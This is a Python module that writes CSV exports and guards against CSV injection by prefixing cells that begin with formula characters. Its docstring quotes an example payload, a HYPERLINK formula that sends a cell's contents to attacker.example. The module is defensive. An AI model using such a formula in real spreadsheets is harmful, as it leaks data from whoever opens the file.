"""Files Tandem hands out (the evaluation CSV, and any later export): the one writer of
CSV, which neutralises cells a spreadsheet would run as formulas.

A survey comment such as ``=HYPERLINK("http://attacker.example/?leak="&M2,"Details")``,
or a name from an LMS claim, would otherwise become a live formula in the coordinator's
spreadsheet (CSV injection). Following OWASP's advice, a text cell that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return (also after leading spaces, which
some spreadsheets skip) gets a leading apostrophe, so it shows as the text it was.
Numbers are written as numbers: ``-3`` stays a number.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(value: Any) -> Any:
    """``value`` as it may safely go in a spreadsheet cell.

    ``None`` becomes ``""``; text that a spreadsheet would read as a formula gets a
    leading ``'``; numbers and other text pass unchanged.
    """
    if value is None:
        return ""
    if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(rows: Iterable[Sequence[Any]]) -> str:
    """The rows (a header first, if wanted) as CSV text, every cell neutralised."""
    out = io.StringIO()
    writer = csv.writer(out)
    for row in rows:
        writer.writerow([neutralise_cell(value) for value in row])
    return out.getvalue()
